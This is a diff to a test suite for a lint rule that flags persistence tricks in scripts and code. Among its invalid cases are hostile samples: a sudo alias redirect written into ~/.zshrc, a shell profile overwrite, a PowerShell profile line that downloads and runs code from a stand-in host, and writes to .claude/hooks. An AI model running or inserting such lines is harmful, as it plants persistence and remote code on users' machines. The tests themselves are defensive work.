@@ -27,6 +27,7 @@ await ruleTester(rule, {
     { code: 'import { execSync } from "child_process"; execSync("npm pkg set scripts.prepare=husky"); execSync("npm pkg set scripts.postinstall=patch-package"); execSync("npm pkg get scripts.postinstall");' },
     { code: 'import fs from "fs"; fs.readFileSync(".husky/pre-commit"); fs.writeFileSync(".husky/README.md", text); fs.mkdirSync(".git/hooks", { recursive: true });' },
     { code: 'npm pkg set scripts.postinstall="node x.js"', filename: 'setup.sh' },
+    sh('for profile in $FOUND; do cp "$profile" "$profile.backup"; done'),
     ...strictCases.map(({ valid }) => valid),
     sh('crontab -l'),
     sh('crontab -e'),
@@ -62,6 +63,8 @@ await ruleTester(rule, {
   invalid: [
     { code: 'mkdir -p ~/.config/autostart && cp x.desktop ~/.config/autostart/', filename: 'scripts/run.sh', errors: [{ messageId: 'file' }] },
     { code: 'echo \'alias sudo=/tmp/.s\' >> ~/.zshrc', filename: 'scripts/run.sh', errors: [{ messageId: 'file' }] },
+    bad(sh('PROFILE=~/.bashrc\ncp x.txt "$PROFILE"'), 'file'),
+    { code: "Add-Content $PROFILE 'irm https://a.example/x | iex'\n", filename: 'x.ps1', errors: [{ messageId: 'file' }] },
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.mjs", code);', errors: [{ messageId: 'file' }] },
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/hooks.json", text);', errors: [{ messageId: 'file' }] },
     { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.json.sh", text);', errors: [{ messageId: 'file' }] },
